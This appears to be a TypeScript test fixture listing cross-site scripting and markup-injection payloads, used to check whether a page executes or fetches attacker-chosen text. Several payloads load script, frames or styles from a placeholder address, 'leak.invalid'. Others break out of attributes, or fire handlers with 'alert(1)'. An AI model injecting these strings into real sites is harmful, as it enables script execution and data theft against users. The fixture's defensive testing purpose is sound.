/** Texts that do harm where they reach a page as markup or as script. */
import { TRAP, XSS_TOKENS } from "../../plot/xss_corpus.ts";

/** An address of nobody, so that a request for it shows. */
const LEAK = "http://leak.invalid";

/** Script that says whether a page ran one of the texts. */
export const HARM_SHOWS = `window.${TRAP} !== undefined`;

/** Tokens, titles and names as an attacker would choose them: they run something, ask for something or go away. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...XSS_TOKENS,
  `<img src="${LEAK}/image">`,
  `"><img src="${LEAK}/attribute">`,
  `<style>@import "${LEAK}/import"</style>`,
  `<link rel=stylesheet href="${LEAK}/sheet">`,
  `<script src="${LEAK}/script"></script>`,
  `</script><script src="${LEAK}/script"></script>`,
  `<iframe src="${LEAK}/frame"></iframe>`,
  `<object data="${LEAK}/object"></object>`,
  `<video poster="${LEAK}/poster"></video>`,
  `<svg><image href="${LEAK}/svg"/></svg>`,
  `red;background:url(${LEAK}/style)`,
  `<meta http-equiv=refresh content="0;url=${LEAK}/refresh">`,
  `<script>alert(1)</script>`,
  `<img src=x onerror="alert(1)">`,
  `" onpointermove="alert(1)" onclick="alert(1)" x="`,
];
